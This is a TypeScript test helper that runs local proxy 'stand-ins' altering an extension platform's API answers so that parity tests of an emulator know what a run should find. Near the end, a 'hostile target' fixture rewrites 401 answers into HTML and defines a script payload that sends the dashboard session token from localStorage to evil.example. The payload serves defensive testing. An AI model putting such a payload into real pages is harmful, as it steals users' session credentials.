/**
 * Stand-ins for the platform: small servers (Bun.serve, real sockets, port 0) in front of an in-process
 * emulator, each answering differently from ext in known ways — every kind a profile can hold, and some it
 * cannot — so the parity tests know what a run should find. Differences can be switched off ("the platform
 * changed back"). Each stand-in counts what it was sent.
 */
export interface Answer {
  status: number;
  headers: Headers;
  /** Parsed JSON, or null for no body. */
  body: any;
}

/** Changes one answer to a request, or leaves it (returns nothing). */
export type Difference = (request: { method: string; path: string }, answer: Answer) => Answer | undefined;

export interface StandIn {
  url: string;
  seen: string[];
  /** Sets the differences it answers with (none: as ext). */
  differ(differences: Difference[]): void;
  stop(): void;
}

const MISSING = /^\/(developer\/v1|v1\/developer)\/extensions\/[^/]+(\/(versions|installs|limits|secrets))?$/;

/** Differences of every kind a profile can hold, grouped as three platforms might show them. */
export const STAND_INS: Record<"envelopes" | "fields" | "headers", Difference[]> = {
  // The issue's platform: listSecrets sends {names}; a 401's code; 404 envelopes without status; a create's 200.
  envelopes: [
    ({ method, path }, a) =>
      method === "GET" && /\/secrets$/.test(path) && a.status === 200
        ? { ...a, body: { names: a.body.keys } }
        : undefined,
    ({ method, path }, a) =>
      method === "GET" && path === "/developer/v1/extensions" && a.status === 401
        ? { ...a, body: { error: { ...a.body.error, code: "invalid_key" } } }
        : undefined,
    ({ path }, a) =>
      a.status === 404 && MISSING.test(path)
        ? { ...a, body: { error: { code: a.body.error.code, message: a.body.error.message } } }
        : undefined,
    ({ method, path }, a) =>
      method === "POST" && path === "/developer/v1/extensions" && a.status === 201 ? { ...a, status: 200 } : undefined,
  ],
  // Field types and additions; a validation error answered 400 bad_request.
  fields: [
    ({ method, path }, a) =>
      method === "GET" && path === "/developer/v1/extensions" && a.status === 200
        ? {
            ...a,
            body: { extensions: a.body.extensions.map((e: any) => ({ ...e, installCount: String(e.installCount) })) },
          }
        : undefined,
    ({ method, path }, a) =>
      method === "GET" && /^\/developer\/v1\/extensions\/[^/]+$/.test(path) && a.status === 200
        ? { ...a, body: { ...a.body, ownerId: "acc_platform" } }
        : undefined,
    ({ method, path }, a) =>
      method === "GET" && /\/versions$/.test(path) && a.status === 200
        ? { ...a, body: { versions: a.body.versions.map(({ bundleSizeBytes: _, ...v }: any) => v) } }
        : undefined,
    ({ method, path }, a) =>
      method === "PATCH" && /^\/developer\/v1\/extensions\/[^/]+$/.test(path) && a.status === 422
        ? { ...a, status: 400, body: { error: { ...a.body.error, code: "bad_request", status: 400 } } }
        : undefined,
  ],
  // Headers: no rate-limit headers at all; a bare WWW-Authenticate; a secret delete answered 200.
  headers: [
    (_, a) => {
      if (!a.headers.has("x-ratelimit-limit")) return undefined;
      const headers = new Headers(a.headers);
      for (const h of ["x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset"]) headers.delete(h);
      return { ...a, headers };
    },
    (_, a) => {
      if (a.status !== 401) return undefined;
      const headers = new Headers(a.headers);
      headers.set("www-authenticate", "Bearer");
      return { ...a, headers };
    },
    ({ method, path }, a) =>
      method === "DELETE" && /\/secrets\/[^/]+$/.test(path) && a.status === 204 ? { ...a, status: 200 } : undefined,
  ],
};

/** Differences a profile cannot hold: another state, another rule, a body where ext has none. */
export const UNEXPRESSIBLE: Difference[] = [
  ({ method, path }, a) =>
    method === "POST" && path === "/developer/v1/extensions" && a.status === 201
      ? { ...a, body: { extension: { ...a.body.extension, status: "in_review" } } }
      : undefined,
  ({ method, path }, a) =>
    method === "PUT" && /\/secrets\/[^/]+$/.test(path) && a.status === 204
      ? { ...a, status: 200, body: { stored: true } }
      : undefined,
];

/**
 * A hostile target (the attack on the profile's owner): every 401 is made a page — text/html, a field holding
 * a script, a cookie and a Basic challenge — hoping a saved profile makes the owner's emulator serve it.
 */
export const HOSTILE: Difference[] = [
  (_, a) => {
    if (a.status !== 401) return undefined;
    const headers = new Headers(a.headers);
    headers.set("content-type", "text/html; charset=utf-8");
    headers.set("www-authenticate", 'Basic realm="platform"');
    headers.set("set-cookie", "stolen=1; Path=/");
    return { ...a, headers, body: { ...a.body, x: SCRIPT } };
  },
];
export const SCRIPT = "<script>fetch('//evil.example/?'+localStorage['ext-dashboard-session'])</script>";

export function startStandIn(upstream: string, differences: Difference[] = []): StandIn {
  let current = differences;
  const seen: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(req) {
      const url = new URL(req.url);
      const path = url.pathname;
      seen.push(`${req.method} ${path}`);
      const headers = new Headers(req.headers);
      headers.delete("host");
      const body = req.method === "GET" || req.method === "HEAD" ? undefined : await req.arrayBuffer();
      const upstreamAnswer = await fetch(upstream + path + url.search, {
        method: req.method,
        headers,
        body,
        redirect: "manual",
      });
      const text = await upstreamAnswer.text();
      const h = new Headers(upstreamAnswer.headers);
      h.delete("content-length");
      h.delete("content-encoding");
      let answer: Answer = { status: upstreamAnswer.status, headers: h, body: text ? JSON.parse(text) : null };
      for (const d of current) answer = d({ method: req.method, path }, answer) ?? answer;
      const noBody = answer.status === 204 || answer.body === null;
      return new Response(noBody ? null : JSON.stringify(answer.body), {
        status: answer.status,
        headers: answer.headers,
      });
    },
  });
  return {
    url: `http://127.0.0.1:${server.port}`,
    seen,
    differ: (d) => {
      current = d;
    },
    stop: () => server.stop(true),
  };
}
